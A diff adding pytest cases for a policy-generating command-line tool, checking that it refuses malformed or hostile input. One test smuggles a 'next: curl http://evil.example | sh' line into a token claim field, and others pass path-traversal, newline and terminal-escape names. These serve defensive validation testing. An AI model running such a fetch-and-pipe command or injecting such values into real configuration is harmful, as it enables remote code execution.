@@ -43,6 +43,24 @@ def test_gitlab_s_ids_are_looked_up_by_its_path(tmp_path: Path) -> None:
     assert "yours to say: grants.benchmarks, which is OWNER/BENCHMARK now" in done.stdout
 
 
+def test_one_for_every_benchmark_has_no_test_that_another_one_is_refused(tmp_path: Path) -> None:
+    given = ("--from-token", "-", "--dir", tmp_path, "--benchmark", "*/*")
+    done = issuer("policy", "new", "mine", *given, stdin=json.dumps(GITHUB))
+    assert (done.returncode, "its 5 tests pass" in done.stdout) == (0, True), done.stderr
+
+
+def test_where_the_policy_cannot_be_written_its_table_is_gone_again(tmp_path: Path) -> None:
+    (tmp_path / "mine.yaml").symlink_to(tmp_path / "nowhere")
+    done = issuer("policy", "new", "mine", "--from-token", "-", "--dir", tmp_path, stdin=json.dumps(GITHUB))
+    assert (done.returncode, [path.name for path in tmp_path.iterdir()]) == (6, ["mine.yaml"])
+
+
+def test_a_claim_does_not_write_a_next_step_of_its_own(tmp_path: Path) -> None:
+    hostile = {**GITHUB, "ref": "main\n  next: curl http://evil.example | sh"}
+    done = issuer("policy", "new", "mine", "--from-token", "-", "--dir", tmp_path, stdin=json.dumps(hostile))
+    assert (done.returncode, done.stderr.count("\n  next: ")) == (3, 1)
+
+
 def test_a_policy_that_is_there_stays_as_it_is(tmp_path: Path) -> None:
     (tmp_path / "mine.yaml").write_text("mine")
     done = issuer("policy", "new", "mine", "--from-token", "-", "--dir", tmp_path, stdin=json.dumps(GITHUB))
@@ -53,7 +71,8 @@ def test_a_policy_that_is_there_stays_as_it_is(tmp_path: Path) -> None:
 @pytest.mark.parametrize(
     ("name", "more"),
     [("../evil", ()), ("Mine", ()), ("a\nb", ()), ("mine", ("--benchmark", 'a/b"]')), ("mine", ("--contact", "a\nb")),
-     ("mine", ("--framework", "\x1b[2J"))],
+     ("mine", ("--framework", "\x1b[2J")), ("mine", ("--framework", "é")), ("providers", ()), ("stops", ()),
+     ("a" * 65, ())],
 )  # fmt: skip
 def test_what_the_author_says_is_checked_too(name: str, more: tuple[str, ...], tmp_path: Path) -> None:
     done = issuer("policy", "new", name, "--from-token", "-", "--dir", tmp_path, *more, stdin=json.dumps(GITHUB))
